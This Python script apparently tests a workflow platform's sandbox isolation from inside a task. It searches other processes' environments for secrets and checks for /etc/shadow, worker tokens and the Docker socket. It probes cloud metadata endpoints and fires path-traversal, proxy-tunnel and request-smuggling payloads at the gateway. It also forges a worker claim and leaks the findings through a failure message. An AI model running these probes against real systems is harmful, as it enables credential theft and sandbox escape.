"""Looks for secrets and ways out, and reports what it found as the message of a failure."""

import glob
import json
import os
import socket
import sys
import urllib.request

task = json.load(sys.stdin)
plane = task["config"]["plane"]
gateway = os.environ["TRACE_DISPATCHER_URL"].removeprefix("http://")
# As it was given: Python adds a variable of its own to `os.environ`.
given = open("/proc/self/environ", "rb").read().split(b"\0")
names = sorted(line.split(b"=")[0].decode() for line in given if line)
found = {"env": names, "secrets": [], "files": [], "connected": [], "reached": []}


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(1 << 20)
    except OSError:
        return b""


for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
    content = read(path)
    if b"hunter2" in content or b"TENURE_" in content or b"--bundles" in content:
        found["secrets"].append(path)
for path in task["config"]["files"] + ["/root/.tenure/worker-token", "/etc/shadow", "/run/secrets", "/var/run/docker.sock"]:
    if os.path.exists(path):
        found["files"].append(path)


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


def talk(to, request):
    """What a server answers to bytes."""
    try:
        with socket.create_connection(address(to), timeout=5) as sock:
            sock.sendall(request)
            sock.settimeout(5)
            answer = b""
            while chunk := sock.recv(65536):
                answer += chunk
    except OSError:
        pass
    else:
        return answer
    return b""


for to in [plane, "169.254.169.254:80", "169.254.170.2:80", "1.1.1.1:443", "8.8.8.8:53", "[fd00:ec2::254]:80", "10.0.0.1:80"]:
    try:
        socket.create_connection((to.rsplit(":", 1)[0].strip("[]"), int(to.rsplit(":", 1)[1])), timeout=3).close()
        found["connected"].append(to)
    except OSError:
        pass
try:
    socket.getaddrinfo("example.com", 80)
    found["connected"].append("dns")
except OSError:
    pass

key = "/internal/jwks/task"
head = f"Host: {plane}\r\nConnection: close\r\n\r\n"
attempts = {
    path: f"GET {path} HTTP/1.1\r\n{head}"
    for path in [
        key,
        "/internal/task-wakeups?queue=sandbox",
        "/api/v1/dags",
        "/api/v1/live",
        "/metrics",
        "//internal/jwks/task",
        "/v1/task/../../internal/jwks/task",
        "/v1/task/%2e%2e/%2e%2e/internal/jwks/task",
        "/v1/task/..%2f..%2finternal/jwks/task",
        "/v1/task/..\\..\\internal\\jwks\\task",
        "/tenure/../internal/jwks/task",
        "/tenure/%2e%2e/internal/jwks/task",
        "/v1/task/bundle;/../../../internal/jwks/task",
    ]
}
attempts["absolute"] = f"GET http://{plane}{key} HTTP/1.1\r\n{head}"
attempts["absolute to the gateway"] = f"GET http://{gateway}{key} HTTP/1.1\r\n{head}"
attempts["tunnel"] = f"CONNECT {plane} HTTP/1.1\r\n{head}GET {key} HTTP/1.1\r\n{head}"
attempts["tunnel to the metadata"] = f"CONNECT 169.254.169.254:80 HTTP/1.1\r\n{head}"
for name, request in attempts.items():
    answer = talk(gateway, request.encode())
    if b" 200" in answer.split(b"\r\n")[0] or b'"keys"' in answer:
        found["reached"].append(name)
# A second request on a connection whose first one is fine, and one hidden in the body of the first.
for name, extra in [("second", "Content-Length: 2\r\n\r\n{}"), ("hidden", "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")]:
    request = f"POST /v1/task/heartbeat HTTP/1.1\r\nHost: x\r\n{extra}GET {key} HTTP/1.1\r\n{head}"
    if b'"keys"' in talk(gateway, request.encode()):
        found["reached"].append(name)
# A claim in the name of a worker.
body = json.dumps({"task_id": task["task_id"], "worker_id": "w"})
claim = f"POST /internal/task-claim HTTP/1.1\r\nX-Trace-Worker-Token: x\r\nContent-Length: {len(body)}\r\n{head}{body}"
if b"Claimed" in talk(gateway, claim.encode()):
    found["reached"].append("claim")

own = {name: task[name] for name in ("task_id", "attempt", "lease_token")}
request = urllib.request.Request(
    os.environ["TRACE_DISPATCHER_URL"] + "/v1/task/heartbeat",
    json.dumps(own).encode(),
    {"Content-Type": "application/json", "X-Trace-Task-Capability": os.environ["TRACE_TASK_CAPABILITY_TOKEN"]},
)
try:
    with urllib.request.urlopen(request, timeout=30) as answer:
        found["heartbeat"] = answer.status
except urllib.error.HTTPError as error:
    found["heartbeat"] = error.code
print(json.dumps({"status": "Failed", "retryable": False, "error": {"category": "USER_CODE", "message": json.dumps(found)}}))
